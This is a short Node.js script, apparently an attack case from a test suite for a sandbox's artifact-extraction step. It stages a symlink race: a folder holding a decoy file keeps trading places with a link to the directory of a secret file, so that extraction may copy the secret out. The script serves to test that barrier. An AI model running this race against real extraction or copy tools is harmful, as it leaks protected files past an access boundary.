// attack: swap a folder for a link while artifacts are taken out
// wall: 20
'use strict';
const fs = require('fs');
const path = require('path');
const { tried } = require('./kit.cjs');

// The link leads to a folder with a file of the same name that is a secret.
const target = path.dirname(process.env.TARGET_FILE);
const name = path.basename(process.env.TARGET_FILE);
fs.mkdirSync('out/real', { recursive: true });
fs.writeFileSync(`out/real/${name}`, 'plain');
fs.symlinkSync(target, 'out/link');
tried('a folder and a link that trade places');
for (;;) {
  fs.renameSync('out/real', 'out/kept');
  fs.renameSync('out/link', 'out/real');
  fs.renameSync('out/real', 'out/link');
  fs.renameSync('out/kept', 'out/real');
  if (fs.existsSync('enough')) break;
}
